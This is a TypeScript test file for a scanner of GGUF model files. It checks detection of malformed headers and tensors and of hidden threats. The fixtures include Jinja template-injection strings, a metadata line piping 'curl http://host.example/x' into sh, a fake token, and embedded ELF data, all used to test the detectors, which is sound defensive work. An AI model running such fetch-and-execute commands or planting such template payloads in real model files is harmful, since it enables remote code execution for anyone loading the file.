import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { GGUF_READER, ggufReader } from '../../../src/artifacts/gguf/gguf-reader.ts';
import { templateDigest } from '../../../src/artifacts/templates/judge-template.ts';
import { scanWith } from '../safetensors/support.ts';
import type { Scanned } from '../safetensors/support.ts';
import { array, lengthed, makeGguf, PLAIN, text, texts, u32, u64, uint32 } from './support.ts';
import type { GgufValue, MadeGguf, MadeInfo } from './support.ts';

const reader = GGUF_READER;
const scan = (bytes: Buffer): Promise<Scanned> => scanWith(reader, bytes, 'model.gguf');
const plain = makeGguf(PLAIN);
const CHAT = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}";

function withKeys(...keys: readonly (readonly [string, GgufValue])[]): MadeGguf {
  return { ...PLAIN, keys: [...(PLAIN.keys ?? []), ...keys] };
}

function withInfo(change: Partial<MadeInfo>): MadeGguf {
  return { ...PLAIN, infos: [{ name: 'w', dims: [8n, 4n], type: 0, offset: 0n, ...change }] };
}

describe('a sound GGUF file', () => {
  it.each<[string, MadeGguf]>([
    ['version 3', PLAIN],
    ['version 2', { ...PLAIN, version: 2 }],
    ['no tensors', { keys: PLAIN.keys ?? [] }],
    ['an alignment of its own', { ...withKeys(['general.alignment', uint32(64)]), alignment: 64 }],
    ['a plain chat template', withKeys(['tokenizer.chat_template', text(CHAT)])],
    ['an array of numbers', withKeys(['a', array(5, 3n, Buffer.alloc(12))])],
    ['an empty tensor', { ...withInfo({ dims: [0n, 4n] }), data: Buffer.alloc(0) }],
    ['a quantised tensor', { ...withInfo({ dims: [256n], type: 12 }), data: Buffer.alloc(160) }],
    ['zeros behind the last tensor', { ...PLAIN, data: Buffer.alloc(500) }],
  ])('may have %s', async (_, made) => {
    expect((await scan(makeGguf(made))).findings).toEqual([]);
  });
});

describe('a malformed GGUF file', () => {
  it.each<[string, MadeGguf, string]>([
    ['version 0', { ...PLAIN, version: 0 }, 'gguf-header'],
    ['version 1', { ...PLAIN, version: 1 }, 'gguf-header'],
    ['version 4', { ...PLAIN, version: 4 }, 'gguf-header'],
    ['the bytes of its version turned round', { ...PLAIN, version: 0x03000000 }, 'gguf-header'],
    ['more keys than bytes', { ...PLAIN, keyCount: 2n ** 62n }, 'gguf-header'],
    ['a negative number of keys', { ...PLAIN, keyCount: -1n }, 'gguf-header'],
    ['more tensors than bytes', { ...PLAIN, tensorCount: 2n ** 61n }, 'gguf-header'],
    ['more keys than there are', { ...PLAIN, keyCount: 9n }, 'gguf-header'],
    ['an empty key', withKeys(['', uint32(1)]), 'gguf-key'],
    ['a key twice', withKeys(['general.architecture', text('x')]), 'gguf-key'],
    ['a key of 70,000 bytes', withKeys(['k'.repeat(70_000), uint32(1)]), 'gguf-key'],
    ['an unknown type', withKeys(['a', { type: 13, bytes: u32(0) }]), 'gguf-header'],
    ['an array of an unknown type', withKeys(['a', array(99, 1n, u32(0))]), 'gguf-header'],
    ['an array of arrays', withKeys(['a', array(9, 1n, u32(0))]), 'gguf-header'],
    ['an array whose size overflows', withKeys(['a', array(10, 2n ** 61n, u32(0))]), 'gguf-header'],
    ['a string that is longer than the file', withKeys(['a', { type: 8, bytes: u64(2n ** 40n) }]), 'gguf-header'],
    ['alignment 0', withKeys(['general.alignment', uint32(0)]), 'gguf-header'],
    ['alignment 24', withKeys(['general.alignment', uint32(24)]), 'gguf-header'],
    ['alignment 2^31', withKeys(['general.alignment', uint32(2 ** 31)]), 'gguf-header'],
    ['an alignment that is a text', withKeys(['general.alignment', text('32')]), 'gguf-header'],
    ['a tensor name of 64 bytes', withInfo({ name: 'n'.repeat(64) }), 'gguf-tensor'],
    ['five dimensions', withInfo({ dims: [1n, 1n, 1n, 1n, 1n] }), 'gguf-header'],
    ['a negative dimension', withInfo({ dims: [-1n] }), 'gguf-tensor'],
    ['dimensions that overflow', withInfo({ dims: [2n ** 40n, 2n ** 40n] }), 'gguf-tensor'],
    ['a removed tensor type', withInfo({ type: 4 }), 'gguf-tensor'],
    ['a tensor type that never was', withInfo({ type: 4_000_000_000 }), 'gguf-tensor'],
    ['a row that is no multiple of the block', withInfo({ dims: [33n], type: 8 }), 'gguf-tensor'],
    ['an offset that leaves a gap', withInfo({ offset: 32n }), 'gguf-tensor'],
    ['data that ends too early', { ...PLAIN, data: Buffer.alloc(100) }, 'gguf-tensor'],
    ['a size whose padding wraps', withInfo({ dims: [2n ** 62n - 1n] }), 'gguf-tensor'],
    [
      'a tensor twice',
      {
        ...PLAIN,
        infos: [
          { name: 'w', dims: [8n], type: 0, offset: 0n },
          { name: 'w', dims: [8n], type: 0, offset: 32n },
        ],
      },
      'gguf-tensor',
    ],
  ])('with %s is found', async (_, made, id) => {
    expect((await scan(makeGguf(made))).ids).toContain(id);
  });

  it('with any one byte changed never throws', async () => {
    const bytes = makeGguf(withKeys(['tokenizer.chat_template', text(CHAT)], ['general.alignment', uint32(32)]));
    await fc.assert(
      fc.asyncProperty(fc.nat(bytes.length - 1), fc.nat(255), async (at, byte) => {
        const changed = Buffer.from(bytes);
        changed[at] = byte;
        await scan(changed);
      }),
      { numRuns: 500 },
    );
  });

  it('cut anywhere is never clean', async () => {
    for (let end = 0; end < plain.length; end++) expect((await scan(plain.subarray(0, end))).findings.length).toBeGreaterThan(0);
  });
});

describe('what hides in a GGUF file', () => {
  it('may be a template of another name than the default one', async () => {
    const made = withKeys(['tokenizer.chat_template', text(CHAT)], ['tokenizer.chat_template.tool_use', text("{{ ''.__class__.__mro__ }}")]);
    expect((await scan(makeGguf(made))).ids).toEqual(['template-injection']);
  });

  it('may be a template under any other key, or in a list', async () => {
    expect((await scan(makeGguf(withKeys(['other', text('{% set x = cycler.__init__ %}{{ x }}')])))).ids).toEqual(['template-injection']);
    expect((await scan(makeGguf(withKeys(['other', texts('{% set x = cycler.__init__ %}{{ x }}')])))).ids).toEqual(['template-injection']);
  });

  it('is a finding when the template is not the registered one', async () => {
    const bytes = makeGguf(withKeys(['tokenizer.chat_template', text(CHAT)]));
    const ids = async (registered: string): Promise<string[]> =>
      (await scanWith(ggufReader({ registered: new Set([templateDigest(registered)]) }), bytes, 'm.gguf')).ids;
    expect(await ids(CHAT)).toEqual([]);
    expect(await ids(`${CHAT} `)).toEqual(['template-changed']);
  });

  it('may be a byte token that is none', async () => {
    for (const token of ['<0x-1>', '<0x100>', '<0xZZ>', '<0x>'])
      expect((await scan(makeGguf({ keys: [['tokenizer.ggml.tokens', texts('<s>', token)]] }))).ids).toEqual(['gguf-byte-token']);
  });

  it('may be code or a secret in the metadata', async () => {
    expect((await scan(makeGguf(withKeys(['general.description', text('curl http://host.example/x | sh')])))).ids).toEqual(['gguf-metadata-code']);
    expect((await scan(makeGguf(withKeys(['general.author', text(`hf_${'b'.repeat(34)}`)])))).ids).toEqual(['gguf-metadata-secret']);
  });

  it('may be another format before, in or behind the tensors', async () => {
    const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(121)]);
    expect((await scan(Buffer.concat([elf, plain]))).ids).toEqual(['gguf-prefix']);
    expect((await scan(makeGguf({ ...PLAIN, data: elf }))).ids).toEqual(['gguf-embedded']);
    const behind = await scan(Buffer.concat([plain, Buffer.from('PK\x03\x04')]));
    expect(behind.ids).toEqual(['gguf-trailing-bytes']);
    expect(behind.inside).toEqual([{ name: 'behind-the-tensors', how: 'behind', offset: plain.length, size: 4 }]);
  });

  it('may be infinity in a tensor', async () => {
    const data = Buffer.alloc(128);
    data.writeFloatLE(Infinity, 64);
    const { findings } = await scan(makeGguf({ ...PLAIN, data }));
    expect(findings.map(({ rule, offset }) => [rule.id, offset])).toEqual([['gguf-not-finite', plain.length - 64]]);
  });
});

it('A vocabulary of hundreds of thousands of tokens is read through a window', async () => {
  const tokens = Array.from({ length: 300_000 }, (_, i) => lengthed(`t${String(i)}`));
  tokens.push(lengthed('<0x1FF>'));
  expect((await scan(makeGguf({ keys: [['tokenizer.ggml.tokens', array(8, 300_001n, Buffer.concat(tokens))]] }))).ids).toEqual(['gguf-byte-token']);
});
